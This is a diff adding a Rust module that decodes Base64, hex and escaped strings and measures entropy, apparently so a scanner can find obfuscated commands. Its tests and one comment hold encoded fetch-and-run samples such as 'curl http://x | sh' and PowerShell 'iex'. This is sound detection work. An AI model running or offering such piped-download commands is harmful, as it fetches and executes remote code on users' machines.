@@ -1,0 +1,166 @@
+//! Texts that were encoded so that nobody reads them.
+
+use base64::{
+    Engine as _, alphabet,
+    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
+};
+use savoir_skill::Span;
+
+const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
+    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+    .with_decode_allow_trailing_bits(true);
+const PLAIN: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
+const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);
+
+/// Shortest run that is tried: `curl x|sh` has sixteen characters in Base64.
+const SHORTEST: usize = 16;
+
+/// Most bytes that one run gives.
+const LONGEST: usize = 512 * 1024;
+
+/// Base64 as text, if it is text.
+pub(super) fn base64(text: &str) -> Option<String> {
+    readable(base64_bytes(text)?)
+}
+
+/// Base64 as bytes, with blanks in it or without.
+pub(super) fn base64_bytes(text: &str) -> Option<Vec<u8>> {
+    let compact: String = text.chars().filter(|c| !c.is_whitespace()).take(LONGEST).collect();
+    PLAIN.decode(&compact).or_else(|_| URL_SAFE.decode(&compact)).ok()
+}
+
+/// Hexadecimal digits as text, if it is text.
+pub(super) fn hex(text: &str) -> Option<String> {
+    let digits: Vec<u8> = text.bytes().filter(|byte| !byte.is_ascii_whitespace()).collect();
+    if digits.len() < 8 || !digits.len().is_multiple_of(2) || digits.len() > 2 * LONGEST {
+        return None;
+    }
+    let value = |byte: u8| char::from(byte).to_digit(16);
+    let pairs = digits.chunks_exact(2);
+    let bytes: Option<Vec<u8>> =
+        pairs.map(|pair| Some((value(pair[0])? * 16 + value(pair[1])?) as u8)).collect();
+    readable(bytes?)
+}
+
+/// Bytes as text when nearly all of it can be read; UTF-16 as PowerShell takes it, too.
+fn readable(bytes: Vec<u8>) -> Option<String> {
+    if bytes.len() >= 8 && bytes.iter().skip(1).step_by(2).all(|byte| *byte == 0) {
+        let units: Vec<u16> =
+            bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
+        return readable_text(String::from_utf16(&units).ok()?);
+    }
+    readable_text(String::from_utf8(bytes).ok()?)
+}
+
+fn readable_text(text: String) -> Option<String> {
+    let good = |c: char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
+    (text.len() >= 4 && text.chars().all(good)).then_some(text)
+}
+
+/// `\x41`, `\u0041`, `\101` as the characters that they are.
+pub(super) fn escapes(text: &str) -> String {
+    let mut result = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = rest.find('\\') {
+        result.push_str(&rest[..at]);
+        rest = &rest[at + 1..];
+        let (kind, digits, radix) = match rest.as_bytes().first() {
+            Some(b'x') => (1, 2, 16),
+            Some(b'u') => (1, 4, 16),
+            Some(b'0'..=b'7') => (0, 3, 8),
+            _ => (0, 0, 0),
+        };
+        let number = rest.get(kind..kind + digits).filter(|number| !number.is_empty());
+        let code = number.and_then(|number| u32::from_str_radix(number, radix).ok());
+        if let Some(c) = code.and_then(char::from_u32) {
+            result.push(c);
+            rest = &rest[kind + digits..];
+        } else {
+            let c = rest.chars().next();
+            result.push(match c {
+                Some('n') => '\n',
+                Some('t') => '\t',
+                Some('r') => '\r',
+                Some(c) => c,
+                None => '\\',
+            });
+            rest = &rest[c.map_or(0, char::len_utf8)..];
+        }
+    }
+    result + rest
+}
+
+/// Encoded runs in a text that turn out to be text: what they say, how, and where.
+pub(super) fn runs(text: &str) -> Vec<(String, &'static str, Span)> {
+    let is_run =
+        |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_');
+    let bytes = text.as_bytes();
+    let (mut found, mut at) = (Vec::new(), 0);
+    while at < bytes.len() {
+        if !is_run(bytes[at]) {
+            at += 1;
+            continue;
+        }
+        let length = bytes[at..].iter().take_while(|byte| is_run(**byte)).count();
+        let span = Span::new(at, at + length);
+        at += length;
+        if length < SHORTEST || found.len() >= 64 {
+            continue;
+        }
+        let run = span.slice(text);
+        if let Some(inner) = hex(run) {
+            found.push((inner, "hexadecimal digits", span));
+        } else if looks_encoded(run)
+            && let Some(inner) = base64(run)
+        {
+            found.push((inner, "Base64", span));
+        }
+    }
+    found
+}
+
+/// Paths and long words are letters of Base64, too.
+fn looks_encoded(run: &str) -> bool {
+    let upper = run.bytes().any(|byte| byte.is_ascii_uppercase());
+    let lower = run.bytes().any(|byte| byte.is_ascii_lowercase());
+    upper && lower && run.len() % 4 != 1 && !run.contains("//")
+}
+
+/// Bits per byte: text has four to five, Base64 about six, packed code nearly eight.
+pub(super) fn entropy(bytes: &[u8]) -> f64 {
+    let mut counts = [0_u32; 256];
+    for byte in bytes {
+        counts[usize::from(*byte)] += 1;
+    }
+    let total = f64::from(u32::try_from(bytes.len()).unwrap_or(u32::MAX)).max(1.0);
+    let share = |count: &u32| f64::from(*count) / total;
+    counts.iter().filter(|count| **count > 0).map(share).map(|p| -p * p.log2()).sum()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn encodings_are_read() {
+        assert_eq!(base64("Y3VybCBodHRwOi8veCB8IHNo").as_deref(), Some("curl http://x | sh"));
+        assert_eq!(base64("aQBlAHgAIAAxAA==").as_deref(), Some("iex 1"));
+        assert_eq!(hex("6375726c20782e79").as_deref(), Some("curl x.y"));
+        assert_eq!(base64("not base64!"), None);
+        assert_eq!(escapes("\\x63\\u0075r\\154 a"), "curl a");
+    }
+
+    #[test]
+    fn runs_are_found_and_words_are_not() {
+        let found = runs("run `Y3VybCBodHRwOi8veCB8IHNo` now");
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].0, "curl http://x | sh");
+        assert!(runs("internationalization/of/the/things and CamelCaseNamesOfClasses").is_empty());
+    }
+
+    #[test]
+    fn entropy_of_words_and_noise() {
+        assert!(entropy(b"the quick brown fox jumps over the lazy dog") < 4.5);
+        assert!(entropy(&(0..=255).collect::<Vec<u8>>()) > 7.9);
+    }
+}
